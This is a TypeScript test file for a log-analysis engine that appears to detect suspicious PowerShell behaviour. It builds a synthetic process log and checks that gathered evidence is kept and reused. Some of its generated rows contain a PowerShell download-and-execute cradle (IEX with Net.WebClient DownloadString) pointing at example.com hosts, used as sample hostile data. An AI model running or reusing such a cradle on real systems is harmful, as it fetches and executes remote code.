import { expect, test } from 'vitest';
import { Analysis } from '../../src/engine/analysis';
import { readKeptLabels, writeKeptLabels } from '../../src/engine/keep';
import type { KeptAnalysis } from '../../src/engine/engine';
import { studyOf } from '../support/study';

// More arguments than are looked at before the first figures.
const rows = Array.from({ length: 25_000 }, (_, i) => {
  const args = i % 1000 === 7 ? `-nop IEX (New-Object Net.WebClient).DownloadString('http://a${i}.example.com/p')` : `-File job${i}.ps1`;
  return `2024-06-01T${String(i % 24).padStart(2, '0')}:00:00Z,pc${i % 9},powershell.exe,"${args}",a${i % 50}.example.com`;
});
const log = ['time,host,process,arguments,domain', ...rows].join('\n');

const behaviourCounts = (analysis: Analysis): unknown => analysis.argumentsOf('powershell').behaviours.map(({ id, ...row }) => [id, JSON.stringify(row)]);

async function opened(kept: Omit<KeptAnalysis, 'overview'>): Promise<Analysis> {
  const analysis = new Analysis();
  await analysis.open(kept);
  return analysis;
}

test('what was gathered is kept, and need not be gathered again', async () => {
  const analysis = await studyOf(log);
  expect(analysis.overview().evidencePending).not.toBeNull();
  expect((await readKeptLabels(analysis.keep().labels)).evidence).toBeNull();
  while (analysis.gatherEvidence(1000) !== null);
  const back = await opened(analysis.keep());
  expect(back.overview().evidencePending).toBeNull();
  expect(behaviourCounts(back)).toEqual(behaviourCounts(analysis));
  expect(behaviourCounts(back)).not.toEqual([]);
});

test('what was gathered otherwise is not used', async () => {
  const analysis = await studyOf(log);
  while (analysis.gatherEvidence(1000) !== null);
  const kept = analysis.keep();
  const labels = await readKeptLabels(kept.labels);
  const { evidence } = labels;
  if (!evidence) throw new Error('it was kept');
  const other = await opened({ ...kept, labels: writeKeptLabels({ ...labels, evidence: { ...evidence, by: `${evidence.by} otherwise` } }) });
  expect(other.overview().evidencePending).not.toBeNull();
});
